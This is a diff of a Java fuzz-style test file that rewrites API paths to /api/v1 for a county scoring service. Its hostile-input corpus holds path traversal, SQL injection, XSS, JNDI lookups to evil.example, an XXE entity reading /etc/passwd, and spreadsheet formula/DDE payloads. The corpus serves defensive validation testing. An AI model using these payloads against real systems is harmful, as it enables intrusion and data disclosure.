@@ -49,11 +49,11 @@ class HostileInputTest {
         String admin = TOKENS.admin();
         TestEvents.send(unit + ":2024", TestEvents.budgetEvent(unit, "敌意县", 1, TestEvents.GOLDEN_MEASURES));
         await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
-                TestAuth.given(admin).get("/api/scores/" + unit + "/2024").then().statusCode(200));
+                TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/score").then().statusCode(200));
         TestAuth.given(admin).contentType("application/json").body("{\"points\": 4, \"reason\": \"基线\", \"by\": \"评价组\"}")
-                .put("/api/units/" + unit + "/years/2024/judgements/xiangtan-county/B1").then().statusCode(200);
+                .put("/api/v1/units/" + unit + "/years/2024/judgements/xiangtan-county/B1").then().statusCode(200);
         TestAuth.given(admin).contentType("application/json").body(Examples.PUBLISHED)
-                .put("/api/units/" + unit + "/years/2024/published").then().statusCode(200);
+                .put("/api/v1/units/" + unit + "/years/2024/published").then().statusCode(200);
     }
 
     // ---- building the corpus
@@ -67,7 +67,7 @@ class HostileInputTest {
     }
 
     void token(String name, String token) {
-        corpus.add(new Hostile(name, "GET", "/api/systems", null, null, token));
+        corpus.add(new Hostile(name, "GET", "/api/v1/systems", null, null, token));
     }
 
     static String escape(String s) {
@@ -97,7 +97,7 @@ class HostileInputTest {
     }
 
     static String judgementPath() {
-        return "/api/units/" + unit + "/years/2024/judgements/xiangtan-county/B1";
+        return "/api/v1/units/" + unit + "/years/2024/judgements/xiangtan-county/B1";
     }
 
     static String judgement(String points, String reason, String by) {
@@ -151,53 +151,53 @@ class HostileInputTest {
                 "IF(TRUE, basicActual, SQRT(-1))",
         };
         for (String f : formulas) {
-            json("formula " + abbreviate(f), "POST", "/api/systems", system(f));
+            json("formula " + abbreviate(f), "POST", "/api/v1/systems", system(f));
         }
-        json("version formula ${...}", "POST", "/api/systems/xiangtan-county/versions",
+        json("version formula ${...}", "POST", "/api/v1/systems/xiangtan-county/versions",
                 system("${7*7}").replaceFirst("\"code\": \"[^\"]*\", ", ""));
 
         // indicator systems: weights, bands, unknown fields, codes, names
         String valid = validSystem();
-        json("weights not summing", "POST", "/api/systems", valid.replace("\"maxPoints\": 60", "\"maxPoints\": 70"));
-        json("group weights over the total", "POST", "/api/systems", valid.replace("\"maxPoints\": 40, \"children\"", "\"maxPoints\": 45, \"children\""));
-        json("negative weight", "POST", "/api/systems", valid.replace("\"maxPoints\": 10, \"formula\": \"projectActual", "\"maxPoints\": -10, \"formula\": \"projectActual"));
-        json("grade band gap", "POST", "/api/systems", valid.replace("\"min\": 70, \"minInclusive\": true", "\"min\": 75, \"minInclusive\": true"));
-        json("band points over the maximum", "POST", "/api/systems", valid.replace("\"points\": 20}", "\"points\": 200}"));
-        json("scale 99", "POST", "/api/systems", valid.replace("\"scale\": 2", "\"scale\": 99"));
-        json("unknown field", "POST", "/api/systems", valid.replaceFirst("\\{", "{\"evil\": true, "));
-        json("unknown rule type", "POST", "/api/systems", valid.replace("\"type\": \"passFail\"", "\"type\": \"exec\""));
-        json("wrong type", "POST", "/api/systems", valid.replace("\"maxPoints\": 60", "\"maxPoints\": \"lots\""));
-        json("duplicate codes", "POST", "/api/systems", valid.replace("\"code\": \"A2\"", "\"code\": \"A1\""));
+        json("weights not summing", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 60", "\"maxPoints\": 70"));
+        json("group weights over the total", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 40, \"children\"", "\"maxPoints\": 45, \"children\""));
+        json("negative weight", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 10, \"formula\": \"projectActual", "\"maxPoints\": -10, \"formula\": \"projectActual"));
+        json("grade band gap", "POST", "/api/v1/systems", valid.replace("\"min\": 70, \"minInclusive\": true", "\"min\": 75, \"minInclusive\": true"));
+        json("band points over the maximum", "POST", "/api/v1/systems", valid.replace("\"points\": 20}", "\"points\": 200}"));
+        json("scale 99", "POST", "/api/v1/systems", valid.replace("\"scale\": 2", "\"scale\": 99"));
+        json("unknown field", "POST", "/api/v1/systems", valid.replaceFirst("\\{", "{\"evil\": true, "));
+        json("unknown rule type", "POST", "/api/v1/systems", valid.replace("\"type\": \"passFail\"", "\"type\": \"exec\""));
+        json("wrong type", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 60", "\"maxPoints\": \"lots\""));
+        json("duplicate codes", "POST", "/api/v1/systems", valid.replace("\"code\": \"A2\"", "\"code\": \"A1\""));
         for (String code : new String[]{"../../etc/passwd", "'; DROP TABLE indicator_system; --", "x".repeat(65), "",
                 "<b>x</b>", "${jndi:ldap://x}", "代码"}) {
-            json("system code " + abbreviate(code), "POST", "/api/systems",
+            json("system code " + abbreviate(code), "POST", "/api/v1/systems",
                     valid.replaceFirst("\"code\": \"[^\"]*\"",
                             java.util.regex.Matcher.quoteReplacement("\"code\": \"" + escape(code) + "\"")));
         }
         for (String name : new String[]{"正常\u202Egnp.exe", "名称\u0007", "名称\u200B", "<img src=x onerror=alert(1)>",
                 "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
                 "一\n二", "x".repeat(301)}) {
-            json("system name " + abbreviate(name), "POST", "/api/systems",
+            json("system name " + abbreviate(name), "POST", "/api/v1/systems",
                     valid.replace("\"name\": \"自定义指标体系\"", "\"name\": \"" + escape(name) + "\""));
-            json("indicator name " + abbreviate(name), "POST", "/api/systems",
+            json("indicator name " + abbreviate(name), "POST", "/api/v1/systems",
                     valid.replace("\"name\": \"职责履行\"", "\"name\": \"" + escape(name) + "\""));
         }
-        json("grade named with a bidi override", "POST", "/api/systems", valid.replace("\"grade\": \"A\"", "\"grade\": \"\u202EA\""));
-        json("deeply nested JSON", "POST", "/api/systems", "{\"code\": \"x\", \"groups\": " + nested(10_000) + "}");
-        json("nested indicator groups", "POST", "/api/systems",
+        json("grade named with a bidi override", "POST", "/api/v1/systems", valid.replace("\"grade\": \"A\"", "\"grade\": \"\u202EA\""));
+        json("deeply nested JSON", "POST", "/api/v1/systems", "{\"code\": \"x\", \"groups\": " + nested(10_000) + "}");
+        json("nested indicator groups", "POST", "/api/v1/systems",
                 "{\"code\": \"deep\", \"name\": \"n\", \"groups\": [" + "{\"code\": \"g\", \"name\": \"g\", \"maxPoints\": 1, \"children\": [".repeat(80)
                         + "]}".repeat(80) + "]}");
-        json("not JSON", "POST", "/api/systems", "this is not json");
-        json("truncated JSON", "POST", "/api/systems", valid.substring(0, valid.length() / 2));
-        json("array instead of object", "POST", "/api/systems", "[" + valid + "]");
-        json("null body", "POST", "/api/systems", "null");
-        json("empty body", "POST", "/api/systems", "");
-        json("version of another code", "POST", "/api/systems/xiangtan-county/versions", valid);
-        json("version of an unknown system", "POST", "/api/systems/no-such-system/versions",
+        json("not JSON", "POST", "/api/v1/systems", "this is not json");
+        json("truncated JSON", "POST", "/api/v1/systems", valid.substring(0, valid.length() / 2));
+        json("array instead of object", "POST", "/api/v1/systems", "[" + valid + "]");
+        json("null body", "POST", "/api/v1/systems", "null");
+        json("empty body", "POST", "/api/v1/systems", "");
+        json("version of another code", "POST", "/api/v1/systems/xiangtan-county/versions", valid);
+        json("version of an unknown system", "POST", "/api/v1/systems/no-such-system/versions",
                 valid.replaceFirst("\"code\": \"[^\"]*\", ", ""));
-        corpus.add(new Hostile("body over 4 MB", "POST", "/api/systems", "application/json",
+        corpus.add(new Hostile("body over 4 MB", "POST", "/api/v1/systems", "application/json",
                 ("{\"code\": \"big\", \"name\": \"" + "x".repeat(5 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8), null));
-        corpus.add(new Hostile("XML body", "POST", "/api/systems", "application/xml",
+        corpus.add(new Hostile("XML body", "POST", "/api/v1/systems", "application/xml",
                 "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".getBytes(StandardCharsets.UTF_8), null));
         corpus.add(new Hostile("text body", "PUT", judgementPath(), "text/plain", "points=4".getBytes(StandardCharsets.UTF_8), null));
 
@@ -225,16 +225,16 @@ class HostileInputTest {
         json("judging a computed indicator", "PUT", judgementPath().replace("/B1", "/A1"), judgement("4", "r", "e"));
         json("judging an unknown indicator", "PUT", judgementPath().replace("/B1", "/Z9"), judgement("4", "r", "e"));
         json("judging under an unknown system", "PUT", judgementPath().replace("xiangtan-county", "nope"), judgement("4", "r", "e"));
-        json("judgement SQL in the unit code", "PUT", "/api/units/1%27%20OR%201%3D1--/years/2024/judgements/xiangtan-county/B1",
+        json("judgement SQL in the unit code", "PUT", "/api/v1/units/1%27%20OR%201%3D1--/years/2024/judgements/xiangtan-county/B1",
                 judgement("4", "r", "e"));
-        json("judgement lower-case unit", "PUT", "/api/units/abc/years/2024/judgements/xiangtan-county/B1", judgement("4", "r", "e"));
+        json("judgement lower-case unit", "PUT", "/api/v1/units/abc/years/2024/judgements/xiangtan-county/B1", judgement("4", "r", "e"));
         for (String year : new String[]{"1999", "2101", "-1", "abcd", "99999999999", "2024.5"}) {
-            json("judgement year " + year, "PUT", "/api/units/" + unit + "/years/" + year + "/judgements/xiangtan-county/B1",
+            json("judgement year " + year, "PUT", "/api/v1/units/" + unit + "/years/" + year + "/judgements/xiangtan-county/B1",
                     judgement("4", "r", "e"));
         }
 
         // published scores
-        String pub = "/api/units/" + unit + "/years/2024/published";
+        String pub = "/api/v1/units/" + unit + "/years/2024/published";
         json("published negative points", "PUT", pub, Examples.PUBLISHED.replace("\"points\": 4}", "\"points\": -4}"));
         json("published negative total", "PUT", pub, Examples.PUBLISHED.replace("\"total\": 93", "\"total\": -93"));
         json("published grade formula", "PUT", pub, Examples.PUBLISHED.replace("\"grade\": \"良\"", "\"grade\": \"=1+1\""));
@@ -245,39 +245,39 @@ class HostileInputTest {
         json("published too many indicators", "PUT", pub, "{\"indicators\": ["
                 + String.join(",", java.util.Collections.nCopies(501, "{\"name\": \"n\", \"points\": 1}")) + "]}");
         json("published count as fraction", "PUT", pub, "{\"total\": \"lots\"}");
-        json("published year 1800", "PUT", "/api/units/" + unit + "/years/1800/published", Examples.PUBLISHED);
+        json("published year 1800", "PUT", "/api/v1/units/" + unit + "/years/1800/published", Examples.PUBLISHED);
 
         // assignments
-        String assign = "/api/assignments/敌意县/2024";
-        json("assign unknown system", "PUT", assign, "{\"systemCode\": \"nope\", \"version\": 1}");
-        json("assign version 0", "PUT", assign, "{\"systemCode\": \"national-common\", \"version\": 0}");
-        json("assign version 1.5", "PUT", assign, "{\"systemCode\": \"national-common\", \"version\": 1.5}");
-        json("assign jndi", "PUT", assign, "{\"systemCode\": \"${jndi:ldap://evil.example/a}\", \"version\": 1}");
-        json("assign SQL", "PUT", assign, "{\"systemCode\": \"' OR 1=1 --\", \"version\": 1}");
-        json("assign year 1800", "PUT", "/api/assignments/敌意县/1800", "{\"systemCode\": \"national-common\", \"version\": 1}");
-        json("assign county of 101 characters", "PUT", "/api/assignments/" + "县".repeat(101) + "/2024",
-                "{\"systemCode\": \"national-common\", \"version\": 1}");
+        String assign = "/api/v1/counties/敌意县/years/2024/assignment";
+        json("assign unknown system", "PUT", assign, "{\"systemCode\": \"nope\", \"systemVersion\": 1}");
+        json("assign version 0", "PUT", assign, "{\"systemCode\": \"national-common\", \"systemVersion\": 0}");
+        json("assign version 1.5", "PUT", assign, "{\"systemCode\": \"national-common\", \"systemVersion\": 1.5}");
+        json("assign jndi", "PUT", assign, "{\"systemCode\": \"${jndi:ldap://evil.example/a}\", \"systemVersion\": 1}");
+        json("assign SQL", "PUT", assign, "{\"systemCode\": \"' OR 1=1 --\", \"systemVersion\": 1}");
+        json("assign year 1800", "PUT", "/api/v1/counties/敌意县/years/1800/assignment", "{\"systemCode\": \"national-common\", \"systemVersion\": 1}");
+        json("assign county of 101 characters", "PUT", "/api/v1/counties/" + "县".repeat(101) + "/years/2024/assignment",
+                "{\"systemCode\": \"national-common\", \"systemVersion\": 1}");
         json("assign empty body", "PUT", assign, "");
 
         // reads with hostile parameters
-        get("score of an unknown system", "/api/scores/" + unit + "/2024?system=nope");
-        get("score system jndi", "/api/scores/" + unit + "/2024?system=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D");
-        get("score asOf not a time", "/api/scores/" + unit + "/2024?asOf=yesterday");
-        get("score asOf SQL", "/api/scores/" + unit + "/2024?asOf=2024-01-01%27%3B%20DROP%20TABLE%20x%3B--");
-        get("score lower-case unit", "/api/scores/abc/2024");
-        get("score unit of 33 characters", "/api/scores/" + "A".repeat(33) + "/2024");
-        get("score year text", "/api/scores/" + unit + "/abcd");
-        get("score year 1999", "/api/scores/" + unit + "/1999");
-        get("history of an unknown system", "/api/scores/" + unit + "/2024/history?system=%3Cscript%3E");
-        get("ranking year 3000", "/api/counties/敌意县/years/3000/ranking");
-        get("ranking SQL system", "/api/counties/敌意县/years/2024/ranking?system=%27%20OR%201%3D1%20--");
-        get("inconsistencies unknown system", "/api/units/" + unit + "/years/2024/inconsistencies?system=nope");
-        get("version not a number", "/api/systems/xiangtan-county/versions/abc");
-        get("version 99", "/api/systems/xiangtan-county/versions/99");
-        get("unknown system", "/api/systems/%3Cscript%3E");
-        get("audit size 0", "/api/audit?size=0");
-        get("audit unit markup", "/api/audit?unit=%3Cscript%3E");
-        get("audit page text", "/api/audit?page=abc");
+        get("score of an unknown system", "/api/v1/units/" + unit + "/years/2024/score?system=nope");
+        get("score system jndi", "/api/v1/units/" + unit + "/years/2024/score?system=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D");
+        get("score asOf not a time", "/api/v1/units/" + unit + "/years/2024/score?asOf=yesterday");
+        get("score asOf SQL", "/api/v1/units/" + unit + "/years/2024/score?asOf=2024-01-01%27%3B%20DROP%20TABLE%20x%3B--");
+        get("score lower-case unit", "/api/v1/units/abc/years/2024/score");
+        get("score unit of 33 characters", "/api/v1/units/" + "A".repeat(33) + "/years/2024/score");
+        get("score year text", "/api/v1/units/" + unit + "/years/abcd/score");
+        get("score year 1999", "/api/v1/units/" + unit + "/years/1999/score");
+        get("history of an unknown system", "/api/v1/units/" + unit + "/years/2024/score/history?system=%3Cscript%3E");
+        get("ranking year 3000", "/api/v1/counties/敌意县/years/3000/ranking");
+        get("ranking SQL system", "/api/v1/counties/敌意县/years/2024/ranking?system=%27%20OR%201%3D1%20--");
+        get("inconsistencies unknown system", "/api/v1/units/" + unit + "/years/2024/inconsistencies?system=nope");
+        get("version not a number", "/api/v1/systems/xiangtan-county/versions/abc");
+        get("version 99", "/api/v1/systems/xiangtan-county/versions/99");
+        get("unknown system", "/api/v1/systems/%3Cscript%3E");
+        get("audit size 0", "/api/v1/audit?size=0");
+        get("audit unit markup", "/api/v1/audit?unitCode=%3Cscript%3E");
+        get("audit page text", "/api/v1/audit?page=abc");
 
         // hostile tokens
         String[] parts = TOKENS.admin().split("\\.");
@@ -303,17 +303,17 @@ class HostileInputTest {
     static String state() {
         String admin = TOKENS.admin();
         List<String> parts = new ArrayList<>();
-        parts.add(TestAuth.given(admin).get("/api/systems").then().statusCode(200).extract().asString());
+        parts.add(TestAuth.given(admin).get("/api/v1/systems").then().statusCode(200).extract().asString());
         for (String code : new String[]{"xiangtan-county", "national-common", "self-evaluation-2020"}) {
-            parts.add(TestAuth.given(admin).get("/api/systems/" + code + "/versions").then().statusCode(200).extract().asString());
+            parts.add(TestAuth.given(admin).get("/api/v1/systems/" + code + "/versions").then().statusCode(200).extract().asString());
         }
-        parts.add(TestAuth.given(admin).get("/api/scores/" + unit + "/2024").then().statusCode(200).extract().asString());
-        parts.add(TestAuth.given(admin).get("/api/scores/" + unit + "/2024/history").then().statusCode(200).extract().asString());
-        parts.add(TestAuth.given(admin).get("/api/units/" + unit + "/years/2024/judgements/xiangtan-county/B1/history")
+        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/score").then().statusCode(200).extract().asString());
+        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/score/history").then().statusCode(200).extract().asString());
+        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/judgements/xiangtan-county/B1/history")
                 .then().statusCode(200).extract().asString());
-        parts.add(TestAuth.given(admin).get("/api/units/" + unit + "/years/2024/published").then().statusCode(200).extract().asString());
-        parts.add(TestAuth.given(admin).get("/api/assignments/敌意县/2024").then().statusCode(200).extract().asString());
-        parts.add(TestAuth.given(admin).get("/api/audit?actor=admin&size=1").then().statusCode(200).extract().path("total").toString());
+        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/published").then().statusCode(200).extract().asString());
+        parts.add(TestAuth.given(admin).get("/api/v1/counties/敌意县/years/2024/assignment").then().statusCode(200).extract().asString());
+        parts.add(TestAuth.given(admin).get("/api/v1/audit?actor=admin&size=1").then().statusCode(200).extract().path("total").toString());
         return String.join("\n", parts);
     }
 
